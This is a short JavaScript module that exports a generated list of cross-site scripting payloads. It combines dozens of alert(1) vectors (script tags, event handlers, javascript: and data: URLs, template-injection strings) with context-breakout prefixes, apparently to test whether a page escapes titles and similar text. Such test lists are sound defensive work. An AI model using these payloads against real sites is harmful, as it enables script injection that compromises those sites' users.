/**
 * Texts that run `alert` where a page forgets to escape them: each way of running something, behind
 * each way of leaving the place that it was put into.
 */
const runs = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=data:text/javascript,alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="alert`1`">',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<video src=x onerror=alert(1)>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>',
  '<form action=javascript:alert(1)><button autofocus onfocus=alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=javascript:alert(1)//>',
  '<link rel=stylesheet href=data:text/css,* onload=alert(1)>',
  '<style onload=alert(1)></style>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onanimationstart=alert(1) style="animation:a 1s">',
  '<live-search><form action=javascript:alert(1)></form></live-search>',
  '<template><img src=x onerror=alert(1)></template>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  'x onmouseover=alert(1) autofocus onfocus=alert(1)',
]

const ways = [
  '',
  '">',
  "'>",
  '" autofocus onfocus="alert(1)" x="',
  '--><!-- -->',
  '</title></textarea></pre></code>',
  '</script></style>',
  ']]>',
  '<bdi></bdi>',
]

/** Some hundreds of them, none longer than a title may be. */
export const payloads = ways
  .flatMap((way) => runs.map((run) => way + run))
  .filter((text) => [...text].length <= 80)
